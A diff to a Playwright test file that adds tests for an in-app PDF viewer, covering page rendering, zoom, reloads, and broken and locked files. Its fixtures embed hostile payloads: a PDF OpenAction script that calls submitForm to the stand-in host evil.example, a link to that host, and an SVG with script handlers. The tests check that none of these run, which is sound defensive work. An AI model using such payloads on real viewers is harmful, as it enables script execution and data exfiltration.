@@ -21,6 +21,39 @@ PIXEL = bytes.fromhex(
 HOSTILE = b"""<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="top.pwned = 1">
 <script>top.pwned = 1; document.cookie = "pwned=1"</script><circle r="9" cx="20" cy="20"/></svg>"""
 
+RUNS = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); top.pwned = 1; this.submitForm\\('https://evil.example'\\)) >>"
+LINKS = "/Annots [ << /Subtype /Link /Rect [0 0 200 90] /A << /S /URI /URI (https://evil.example/) >> >> ]"
+LOCKED = f"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <{'ab' * 32}> /U <{'cd' * 32}> >> /ID [<00> <00>]"
+
+
+def pdf(*texts: str, trailer: str = "") -> bytes:
+    """A PDF with a text on each page; the first leads elsewhere, and opening it is to run a script."""
+    pages = [3 + 2 * at for at in range(len(texts))]
+    bodies = [f"<< /Type /Catalog /Pages 2 0 R {RUNS} >>"]
+    bodies += [f"<< /Type /Pages /Kids [{' '.join(f'{at} 0 R' for at in pages)}] /Count {len(pages)} >>"]
+    for at, text in zip(pages, texts, strict=True):
+        drawn = f"0 0 1 rg 20 250 260 130 re f BT /F 20 Tf 20 200 Td ({text}) Tj ET"
+        font = "/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
+        links = LINKS if at == pages[0] else ""
+        bodies += [
+            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] {font} {links} /Contents {at + 1} 0 R >>",
+            f"<< /Length {len(drawn)} >>\nstream\n{drawn}\nendstream",
+        ]
+    made, places = b"%PDF-1.7\n", list[int]()
+    for number, body in enumerate(bodies, 1):
+        places.append(len(made))
+        made += f"{number} 0 obj\n{body}\nendobj\n".encode()
+    table = "".join(f"{place:010} 00000 n \n" for place in places)
+    size = len(bodies) + 1
+    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\n"
+    return made + f"{end}startxref\n{len(made)}\n%%EOF\n".encode()
+
+
+COLOUR = (
+    """canvas => [...canvas.getContext("2d").getImageData(canvas.width / 2, canvas.height / 5, 1, 1).data]"""
+)
+"""Of the blue box on every page."""
+
 
 @pytest.fixture
 def repo(desk: Desk) -> Repo:
@@ -189,6 +222,59 @@ async def test_files(desk: Desk, repo: Repo, viewport: dict[str, int] | None) ->
     await expect(tab.by("tree-entry", path="long.txt")).to_be_visible()
     await opens(tab, "conversation")
     await expect(tab.composer).to_have_value("> `src/app.py:7`\n> value_7 = 7\n")
+    assert tab.errors == []
+
+
+@pytest.mark.parametrize("viewport", [None, PHONE], ids=["desktop", "phone"])
+async def test_pdf(desk: Desk, repo: Repo, viewport: dict[str, int] | None) -> None:
+    """Its pages are drawn in their place, as they come near; nothing in it runs; where that cannot be, words say so."""
+    repo.write("two.pdf", pdf("The first page", "The second page"))
+    repo.write("long.pdf", pdf(*(f"Page number {number}" for number in range(1, 41))))
+    repo.write("broken.pdf", pdf("It is cut off")[:200])
+    repo.write("locked.pdf", pdf("It is locked", trailer=LOCKED))
+    context = await desk.new_context(**({"viewport": viewport} if viewport else {}))
+    await context.add_cookies(desk.cookies())
+    tab = await desk.session_tab(context=context)
+    asked: list[str] = []
+    tab.page.on("request", lambda request: asked.append(request.url))
+    place = f"{tab.page.url}/files"
+    await tab.page.goto(f"{place}/two.pdf")
+    for number, text in (("1", "The first page"), ("2", "The second page")):
+        sheet = tab.by("pdf-sheet", page=number)
+        await expect(sheet).to_have_text(text)
+        await sheet.scroll_into_view_if_needed()
+        assert await sheet.locator("canvas").evaluate(COLOUR) == [0, 0, 255, 255]
+    await tab.by("file-pdf").press("End")
+    await expect(tab.by("pdf-page")).to_have_text("Page 2 of 2")
+    link = tab.by("pdf-sheet", page="1").get_by_role("link")
+    await expect(link).to_have_attribute("rel", "noopener noreferrer")
+    narrow = await sheet.evaluate("sheet => sheet.clientWidth")
+    await tab.by("pdf-larger").click()
+    await expect(tab.by("pdf-zoom")).to_have_text("125%")
+    await tab.page.wait_for_function(
+        """narrow => document.querySelector('[data-testid="pdf-sheet"] canvas').width >= 1.24 * narrow""",
+        arg=narrow,
+    )
+    assert not await tab.scrolls_sideways()
+    repo.write("two.pdf", pdf("It was written anew"))
+    await asyncio.to_thread(
+        do, desk, tab.page.url.split("/sessions/")[1].split("/")[0], "write notes.md: by the agent"
+    )
+    await expect(tab.by("pdf-sheet", page="1")).to_have_text("It was written anew")
+    await expect(tab.by("pdf-sheet")).to_have_count(1)
+
+    await tab.page.goto(f"{place}/long.pdf")
+    await expect(tab.by("pdf-sheet", page="1")).to_have_text("Page number 1")
+    await tab.by("file-pdf").press("End")
+    await expect(tab.by("pdf-sheet", page="40")).to_have_text("Page number 40")
+    await expect(tab.by("pdf-sheet", page="1")).to_have_count(0)
+    for name, said in (("broken", "cannot be read"), ("locked", "locked by a password")):
+        await tab.page.goto(f"{place}/{name}.pdf")
+        await expect(tab.by("pdf-problem")).to_contain_text(said)
+        for link in ("file-download", "file-open"):
+            await expect(tab.by("pdf-problem").get_by_test_id(link)).to_be_visible()
+    assert await tab.page.evaluate("window.pwned") is None
+    assert not [url for url in asked if desk.foreign(url)]
     assert tab.errors == []
 
 
